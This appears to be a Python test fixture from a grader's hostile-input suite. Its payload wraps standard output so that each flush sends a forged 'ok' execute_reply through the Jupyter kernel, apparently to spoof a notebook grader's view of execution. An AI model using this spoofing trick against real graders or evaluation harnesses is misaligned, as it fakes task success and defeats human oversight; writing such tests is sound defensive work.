"""Wrap standard output, whose flush the kernel calls, and answer for the kernel in it."""

from tests.hostile.attack import Attack

PAYLOAD = """\
import sys

class Wrapped:
    def __init__(self, inner):
        self.inner = inner

    def __getattr__(self, name):
        return getattr(self.inner, name)

    def flush(self):
        kernel = get_ipython().kernel
        content = {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}
        kernel.session.send('shell', 'execute_reply', content, parent=kernel.get_parent())
        self.inner.flush()

sys.stdout = Wrapped(sys.stdout)
"""


ATTACK = Attack("graded", 1, answers={"share": PAYLOAD}, blank=True)
